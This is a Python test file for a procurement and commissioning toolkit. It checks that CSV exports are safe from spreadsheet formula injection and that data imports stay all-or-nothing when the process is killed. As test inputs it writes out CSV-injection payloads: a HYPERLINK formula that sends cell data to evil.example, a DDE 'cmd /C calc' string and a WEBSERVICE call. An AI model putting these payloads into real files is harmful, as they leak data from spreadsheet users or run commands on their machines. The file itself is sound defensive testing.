"""Issue 12 (output half): every CSV the toolkit writes is safe to open in a spreadsheet, and an
import replaces its table and sources.yaml together even when the process is killed in between.

Formula injection (OWASP "CSV injection"): a text cell starting with ``= + - @``, tab or CR is
written with a leading ``'``; numbers, negative ones included, are written as they are.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from commissioning.boroughs import LONDON_AUTHORITIES
from commissioning.cli import main
from commissioning.needs.dataset import load_dataset
from commissioning.procurement.awards import awards_csv, build_awards
from commissioning.procurement.bid_files import read_bids, read_moderation, read_scores
from commissioning.procurement.rules import load_rules
from commissioning.procurement.scoring import score_bids
from commissioning.safeio import csv_text, safe_cell

ROOT = Path(__file__).resolve().parents[2]
SCORING = ROOT / "tests" / "fixtures" / "scoring"
# Bid A1 becomes a formula bid; its organisation and lot too. A cell of each trigger character.
EVIL_ID, EVIL_ORG, EVIL_LOT = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+A"


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def evil_round(tmp_path: Path) -> Path:
    """The scoring fixtures with bid A1's id, organisation and lot turned into formulas."""
    folder = tmp_path / "scoring"
    shutil.copytree(SCORING, folder)
    for name in ("bids.csv", "scores.csv", "moderation.csv"):
        frame = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
        frame.loc[frame["bid_id"] == "A1", "bid_id"] = EVIL_ID
        if name == "bids.csv":
            a_lot = frame["lot"] == "A"
            frame.loc[frame["bid_id"] == EVIL_ID, "organisation"] = EVIL_ORG
            frame.loc[a_lot, "lot"] = EVIL_LOT
        frame.to_csv(folder / name, index=False)
    return folder


def evil_result(folder: Path):
    return score_bids(load_rules(folder / "rules.yaml"), read_bids(folder / "bids.csv"),
                      read_scores(folder / "scores.csv"), read_moderation(folder / "moderation.csv"))


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            try:
                float(cell)
                continue  # a number, e.g. -0.1278, is not a formula
            except ValueError:
                pass
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-0.1278", "-0.1278"), ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("plain", "plain"),
    ("", ""), (-3.5, -3.5),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_csv_text_leaves_numeric_columns_alone():
    frame = pd.DataFrame({"name": ["=cmd", "ok"], "lon": [-0.1278, 0.1], "n": pd.array([-2, None], dtype="Int64")})
    assert csv_text(frame) == "name,lon,n\n'=cmd,-0.1278,-2\nok,0.1,\n"


def test_score_out_neutralises_bid_id_lot_and_reasons(tmp_path, capsys):
    folder = evil_round(tmp_path)
    out = tmp_path / "ranking.csv"
    assert main(["score", "--rules", str(folder / "rules.yaml"), "--bids", str(folder / "bids.csv"),
                 "--scores", str(folder / "scores.csv"), "--moderation", str(folder / "moderation.csv"),
                 "--out", str(out)]) == 0
    rows = rows_of(out.read_text(encoding="utf-8"))
    no_formula(rows)
    ids = [r[0] for r in rows[1:]]
    assert "'" + EVIL_ID in ids and all(r[1] == "'" + EVIL_LOT for r in rows[1:] if r[1].endswith("A"))
    # the good rows are written exactly as before (the contract for good input is unchanged)
    plain = [r for r in rows[1:] if r[0] == "B1"]
    assert plain and plain[0][1] == "B"


def test_awards_csv_neutralises_organisation_and_ids(tmp_path):
    flagged = evil_result(evil_round(tmp_path))
    result = dataclasses.replace(flagged, table=flagged.table.assign(status="ranked"))  # every flag decided
    grants = build_awards(result, funder_id="GB-X", funder_name="Funder", id_prefix="360G-x",
                          award_date="2027-09-01")
    rows = rows_of(awards_csv(grants))
    no_formula(rows)
    assert "'" + EVIL_ORG in [cell for row in rows for cell in row]


def test_app_csv_download_neutralises(monkeypatch, tmp_path):
    from app_pages import _shared as ui

    captured = {}
    monkeypatch.setattr(ui.st, "download_button", lambda label, data, **kw: captured.setdefault("data", data))
    table = evil_result(evil_round(tmp_path)).ranking
    ui.csv_download(table, "ranking.csv")
    rows = rows_of(captured["data"].decode("utf-8"))
    no_formula(rows)
    assert "'" + EVIL_ID in [r[0] for r in rows]


def test_services_import_neutralises_text_but_keeps_negative_longitudes(tmp_data_dir, capsys):
    register = ROOT / "tests" / "fixtures" / "needs" / "services_register.csv"
    frame = pd.read_csv(register, dtype=str, keep_default_na=False)
    provider = next(c for c in frame.columns if c.lower() in ("provider", "organisation"))
    frame.loc[0, provider] = "=WEBSERVICE(\"http://evil.example\")"
    frame["Latitude"], frame["Longitude"] = "51.5", "-0.1278"  # west of Greenwich
    evil = tmp_data_dir.parent / "register.csv"
    frame.to_csv(evil, index=False)
    assert main(["import", "services", str(evil), "--data", str(tmp_data_dir)]) == 0, capsys.readouterr().err
    rows = rows_of((tmp_data_dir / "services.csv").read_text(encoding="utf-8"))
    no_formula(rows)
    lon = rows[0].index("lon")
    assert all(r[lon] == "-0.1278" for r in rows[1:])  # a negative number is written as it is
    assert load_dataset(tmp_data_dir).services["provider"].iloc[0] == "'=WEBSERVICE(\"http://evil.example\")"


# ---------------------------------------------------------------------------------------------
# 12. All or nothing across demand.csv and sources.yaml, even under SIGKILL

KILLER = """
import os, pathlib, signal, sys
real = pathlib.Path.replace
def replace(self, target):
    if pathlib.Path(target).name == "sources.yaml":
        os.kill(os.getpid(), signal.SIGKILL)   # demand.csv is already in place
    return real(self, target)
pathlib.Path.replace = replace
from commissioning.cli import main
sys.exit(main(sys.argv[1:]))
"""


def vawg_table(path: Path) -> Path:
    rows = ["code,name,month,vawg_offences,vawg_victims"]
    rows += [f"{c},{n},2026-02,{100 + i},50" for i, (c, n) in enumerate(LONDON_AUTHORITIES.items())]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.mark.skipif(os.name != "posix", reason="SIGKILL")
def test_import_killed_between_the_two_renames_is_completed_on_the_next_load(tmp_data_dir, tmp_path):
    table = vawg_table(tmp_path / "vawg.csv")
    old_sources = (tmp_data_dir / "sources.yaml").read_text(encoding="utf-8")
    run = subprocess.run([sys.executable, "-c", KILLER, "import", "mps-vawg", str(table), "--months", "1",
                          "--data", str(tmp_data_dir)], cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert run.returncode == -9, run.stderr  # killed, as planned, before sources.yaml was replaced
    assert (tmp_data_dir / "sources.yaml").read_text(encoding="utf-8") == old_sources
    ds = load_dataset(tmp_data_dir)  # the reader finishes the committed import first
    assert "mps_vawg" in {s["id"] for s in ds.sources}
    vawg = ds.demand.loc[ds.demand["measure"] == "vawg_offences"].set_index("code")["value"]
    assert vawg["E09000012"] == 100 + list(LONDON_AUTHORITIES).index("E09000012")
    assert not list(tmp_data_dir.glob("*.import-part")) and not list(tmp_data_dir.glob(".import-journal*"))


@pytest.mark.skipif(os.name != "posix", reason="SIGKILL")
def test_import_killed_before_the_commit_point_leaves_the_old_files(tmp_data_dir, tmp_path):
    table = vawg_table(tmp_path / "vawg.csv")
    before = {n: (tmp_data_dir / n).read_bytes() for n in ("demand.csv", "sources.yaml")}
    killer = KILLER.replace('pathlib.Path(target).name == "sources.yaml"',
                            'pathlib.Path(target).name == ".import-journal.json"')
    run = subprocess.run([sys.executable, "-c", killer, "import", "mps-vawg", str(table), "--months", "1",
                          "--data", str(tmp_data_dir)], cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert run.returncode == -9, run.stderr
    load_dataset(tmp_data_dir)
    assert {n: (tmp_data_dir / n).read_bytes() for n in before} == before
    # the next import clears the parts the killed one left, then succeeds
    assert main(["import", "mps-vawg", str(table), "--months", "1", "--data", str(tmp_data_dir)]) == 0
    assert not list(tmp_data_dir.glob("*.import-part"))
    assert "mps_vawg" in {s["id"] for s in load_dataset(tmp_data_dir).sources}
